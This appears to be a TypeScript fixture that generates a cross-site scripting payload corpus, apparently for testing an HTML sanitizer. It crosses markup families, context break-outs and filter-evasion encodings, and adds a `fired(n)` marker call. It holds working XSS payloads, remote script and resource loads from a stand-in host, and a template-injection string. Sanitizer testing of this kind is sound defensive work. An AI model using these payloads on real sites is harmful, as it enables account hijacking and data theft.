/**
 * Markup that runs a script where data are taken for markup: families × ways to break out × ways to
 * write. `§` is the call that tells that it ran; what is fetched comes from a foreign host.
 */
const host = "//f.example";

const families: readonly string[] = [
  "<script>§</script>",
  `<script src=${host}/s.js></script>`,
  "<img src=x onerror=§>",
  `<img src=${host}/p.png>`,
  "<svg onload=§></svg>",
  "<svg><script>§</script></svg>",
  "<svg><animate onbegin=§ attributeName=x dur=1s>",
  `<svg><use href="${host}/u.svg#x"></use></svg>`,
  "<math><mtext><img src=x onerror=§></mtext></math>",
  "<details open ontoggle=§>",
  "<video><source onerror=§></video>",
  `<audio src=${host}/a.ogg onerror=§>`,
  "<input autofocus onfocus=§>",
  `<iframe srcdoc="<script>parent.§</script>"></iframe>`,
  "<iframe src=javascript:parent.§></iframe>",
  `<object data=${host}/o.html></object>`,
  `<embed src=${host}/e.svg>`,
  `<link rel=stylesheet href=${host}/l.css>`,
  `<style>@import "${host}/i.css";*{background:url(${host}/b.png)}</style>`,
  `<div style="background:url(${host}/d.png)">x</div>`,
  `<base href=${host}/>`,
  `<meta http-equiv=refresh content="0;url=${host}/">`,
  "<body onload=§>",
  "<marquee onstart=§>x</marquee>",
  "<template><script>§</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=§>'></noscript>",
  `<form action=javascript:§><button autofocus onfocus=§>x</button></form>`,
  "<a href=javascript:§>x</a>",
  `[x](javascript:§) ![x](${host}/m.png)`,
  "javascript:§",
  "data:text/html,<script>parent.§</script>",
];

/** Ways out of wherever the text may have been put. */
const contexts: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) => `">${core}`,
  (core) => `'>${core}`,
  (core) => `</textarea></title></style></script>${core}`,
  (core) => `-->]]>${core}<!--`,
  (core) => `" onmouseover=§ autofocus onfocus=§ x="${core}`,
  (core) => `\`;§;//${core}`,
  (core) => `\${§}{{constructor.constructor('§')()}}${core}`,
];

/** Ways to write the same that a filter may not see through. */
const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w+)/, (tag) => tag.toUpperCase()),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll("<", "<\n"),
  (text) => text.replaceAll("javascript:", "java\tscript:"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => text.replace("<", "<<").replaceAll("on", "oN"),
  (text) => text.replaceAll(":", "&#x3a;").replaceAll("=", "&#61;"),
];

/** Every family in every context, each pair written in three ways; the ways take turns. */
export const payloads: readonly string[] = [
  ...new Set(
    families.flatMap((family, at) =>
      contexts.flatMap((context, place) =>
        [0, 1 + ((at + place) % 5), 6 + ((at + place) % 5)].map(
          (way) => encodings[way]?.(context(family)) ?? "",
        ),
      ),
    ),
  ),
];

/** The same payload with a call in it that names the payload. */
export function armed(payload: string, at: number): string {
  return payload.replaceAll("§", `fired(${at})`).replaceAll("%C2%A7", `fired(${at})`);
}
